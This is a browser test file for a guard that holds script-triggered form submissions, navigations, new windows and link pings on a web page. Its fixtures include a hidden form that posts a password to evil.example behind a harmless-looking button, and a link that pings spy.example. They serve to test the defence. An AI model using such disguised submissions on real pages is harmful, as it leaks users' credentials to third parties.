import { afterEach, expect, test } from 'vitest'
import { userEvent } from 'vitest/browser'
import { openGuard, type Guard } from '../../../../src/environments/page/act/guard.ts'
import type { ElementFacts } from '../../../../src/security/element-facts.ts'
import { claimElement } from '../../../../src/security/own-elements.ts'
import { act, find, said, show, showFrame } from './stage.ts'

let guard: Guard | undefined
afterEach(() => guard?.close())

/** Allows nothing but what the test says. */
function watch(decide: (facts: ElementFacts, circumstances: { afterSubmit: boolean }) => boolean = () => false): Guard {
  guard?.close()
  return (guard = openGuard(window, decide))
}

/** What a form's own listener heard; nothing is really sent. */
function listenTo(form: HTMLElement): string[] {
  const log: string[] = []
  form.addEventListener('submit', (event) => {
    event.preventDefault()
    log.push(event.submitter?.id ?? 'none')
  })
  return log
}

const turn = (): Promise<void> => new Promise((resolve) => setTimeout(resolve, 30))

test('a form that nobody allowed is not sent, its page does not hear of it, and it can be sent after all', async () => {
  show('<form action="/pay" method="post"><h3>Payment</h3><input autocomplete="cc-number"><button id="b">Go</button></form>')
  const log = listenTo(find('form'))
  const { held } = watch()
  await act('#b', { verb: 'click' })
  expect([log, held.length]).toEqual([[], 1])
  expect(held[0]).toMatchObject({
    prevented: true,
    facts: { verb: 'submit', submits: { url: `${location.origin}/pay`, method: 'post', sensitive: ['card'] } },
  })
  expect(held[0]?.redo?.()).toEqual({ ok: true, note: 'The form was sent.' })
  expect([log, held.length]).toEqual([['b'], 1])
})

test('a form that changed after somebody was asked about it is not sent', async () => {
  show('<form action="/a"><button id="b">Go</button></form>')
  const log = listenTo(find('form'))
  const { held } = watch()
  await act('#b', { verb: 'click' })
  find('form').setAttribute('action', 'https://evil.example/')
  expect(said(held[0]?.redo?.() ?? { ok: true, note: '' })).toContain('The page changed what this does')
  find('form').remove()
  expect(said(held[0]?.redo?.() ?? { ok: true, note: '' })).toContain('not in the page any more')
  expect(log).toEqual([])
})

test('a form that is allowed is sent, as are those in shadow trees that are not held', async () => {
  show('<form action="/a"><button id="b">Go</button></form><x-form></x-form>')
  const shadow = find('x-form').attachShadow({ mode: 'open' })
  shadow.innerHTML = '<form action="/shadow"><button id="s">s</button></form>'
  const outer = listenTo(find('form'))
  const inner = listenTo(find('form', shadow))
  const { held } = watch(({ submits }) => submits?.url.endsWith('/a') ?? false)
  await act('#b', { verb: 'click' })
  await act(find('#s', shadow), { verb: 'click' })
  expect([outer, inner, held.map(({ facts }) => facts.submits?.url)]).toEqual([['b'], [], [`${location.origin}/shadow`]])
})

test('a handler that sends a form behind a harmless click is held, and told with the facts of that form', async () => {
  show('<form id="f" action="https://evil.example/x" method="post"><input type="password"></form><button type="button">Show more</button>')
  find('button').addEventListener('click', () => find<HTMLFormElement>('#f').requestSubmit())
  const log = listenTo(find('#f'))
  const { held } = watch()
  await act('button', { verb: 'click' })
  expect(log).toEqual([])
  expect(held[0]?.facts.submits).toMatchObject({ url: 'https://evil.example/x', sensitive: ['password'] })
})

test('a script that leaves the page is held, in frames too, and can go there after all', async () => {
  const root = show('<div></div>')
  const frame = await showFrame('<button type="button">Next</button>', root)
  const inner = frame.contentWindow as Window
  const button = find('button', frame.contentDocument ?? document)
  button.addEventListener('click', () => inner.location.assign('/away?x=1'))
  const { held } = watch()
  await act(button, { verb: 'click' })
  await turn()
  expect(held[0]).toMatchObject({ prevented: true, facts: { verb: 'navigate', opens: { url: `${location.origin}/away?x=1` } } })
  expect(inner.location.href).toBe('about:srcdoc')
  const loaded = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }))
  expect(held[0]?.redo?.().ok).toBe(true)
  await loaded
  expect([inner.location.pathname, held.length]).toEqual(['/away', 1])
})

test('form.submit() of a script, which no submit event tells of, is held as a form', async () => {
  const root = show('<div></div>')
  const frame = await showFrame(
    '<form action="/quiet" method="post"><input name="a" value="b"></form><form action="/get" id="g"><input name="a" value="b"></form>',
    root,
  )
  const inner = frame.contentDocument ?? document
  const { held } = watch()
  find<HTMLFormElement>('form', inner).submit()
  await turn()
  find<HTMLFormElement>('#g', inner).submit()
  await turn()
  expect(held.map(({ facts }) => [facts.verb, facts.submits?.url ?? facts.opens?.url])).toEqual([
    ['submit', `${location.origin}/quiet`],
    ['navigate', `${location.origin}/get?a=b`],
  ])
  expect(held[0]?.redo).toBeNull()
  expect(frame.contentWindow?.location.href).toBe('about:srcdoc')
})

test('a form that was allowed may go where it said, and nowhere else', async () => {
  const root = show('<div></div>')
  const frame = await showFrame('<form action="/sent"><input name="q" value="1"><button>Go</button></form>', root)
  const inner = frame.contentDocument ?? document
  const after: boolean[] = []
  const { held } = watch(({ verb }, { afterSubmit }) => (after.push(afterSubmit), verb === 'submit'))
  const loaded = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }))
  await act(find('button', inner), { verb: 'click' })
  await loaded
  expect(guard?.leaving).toBe(false)
  expect([frame.contentWindow?.location.pathname, frame.contentWindow?.location.search, held.length]).toEqual(['/sent', '?q=1', 0])
  frame.contentWindow?.location.assign('/elsewhere')
  await turn()
  expect([held.map(({ facts }) => facts.opens?.url), after.at(-1)]).toEqual([[`${location.origin}/elsewhere`], true])
})

test('moves within the document pass', async () => {
  const before = location.href
  show('<a href="#x">x</a>')
  const { held } = watch()
  location.hash = 'there'
  history.pushState(null, '', '#pushed')
  await act('a', { verb: 'click' })
  await turn()
  expect([held, location.hash]).toEqual([[], '#x'])
  history.replaceState(null, '', before)
})

test('where a person is at work in a form, it is theirs to send', async () => {
  show('<form><input><button id="b">b</button></form>')
  const log = listenTo(find('form'))
  const { held } = watch()
  await userEvent.click(find('#b'))
  await userEvent.type(find('input'), 'x{Enter}')
  expect([log, held]).toEqual([['b', 'b'], []])
})

test('links that a script clicks to open a window or to ping somebody are held', async () => {
  show(
    '<button type="button">Fine</button><a href="/new" target="_blank" id="w">w</a><a href="#p" ping="https://spy.example/" id="p">p</a>',
  )
  find('button').addEventListener('click', () => {
    find('#w').click()
    find('#p').click()
  })
  const { held } = watch()
  await act('button', { verb: 'click' })
  expect(held.map(({ facts }) => facts.opens?.newWindow || facts.opens?.pings)).toEqual([true, ['https://spy.example/']])
  expect(location.hash).toBe('')
})

test('what cannot be judged is held', async () => {
  show('<form><button>b</button></form>')
  const log = listenTo(find('form'))
  const { held } = watch(() => {
    throw new Error('no idea')
  })
  await act('button', { verb: 'click' })
  expect([log, held.length]).toEqual([[], 1])
})

test('that the page itself is being left is told, so that nothing is decided meanwhile', async () => {
  const frame = await showFrame('<button type="button">Next</button>', show('<div></div>'))
  const inner = frame.contentWindow as Window
  const watching = openGuard(inner, () => true)
  const loaded = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }))
  inner.location.assign('/next')
  await Promise.resolve()
  expect(watching.leaving).toBe(true)
  await loaded
  watching.close()
})

test('a page that shows the new address itself, or keeps its user from leaving, is not being left', async () => {
  const frame = document.createElement('iframe')
  const loaded = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }))
  frame.src = '/some-page'
  show('<div></div>').append(frame)
  await loaded
  const inner = frame.contentWindow as Window
  const watching = openGuard(inner, () => true)
  inner.navigation.addEventListener('navigate', (event) => {
    if (event.destination.url.endsWith('/never')) event.preventDefault()
    else event.intercept({ handler: async () => {} })
  })
  for (const address of ['/shown-here', '/never']) {
    inner.location.assign(address)
    await turn()
  }
  expect([inner.location.pathname, watching.leaving, watching.held]).toEqual(['/shown-here', false, []])
  watching.close()
})

test('what belongs to this library passes, and nothing is held once the guard is closed', async () => {
  show('<div id="own"><form id="f"><button id="b">b</button></form></div><form id="g"><button id="c">c</button></form>')
  claimElement(find('#own'))
  const own = listenTo(find('#f'))
  const other = listenTo(find('#g'))
  const watching = watch()
  find('#b').click()
  watching.close()
  await act('#c', { verb: 'click' })
  expect([own, other, watching.held]).toEqual([['b'], ['c'], []])
})

test('the guard patches nothing', () => {
  show('<form><button>x</button></form>')
  const targets = [
    window,
    document,
    history,
    location,
    HTMLFormElement.prototype,
    Window.prototype,
    EventTarget.prototype,
    Navigation.prototype,
    find('form'),
  ]
  const own = (): unknown =>
    targets.map((target) =>
      Object.entries(Object.getOwnPropertyDescriptors(target)).map(([name, { get, set, value }]) => [
        name,
        get,
        set,
        typeof value === 'function' && value,
      ]),
    )
  const before = own()
  watch()
  expect(own()).toEqual(before)
})
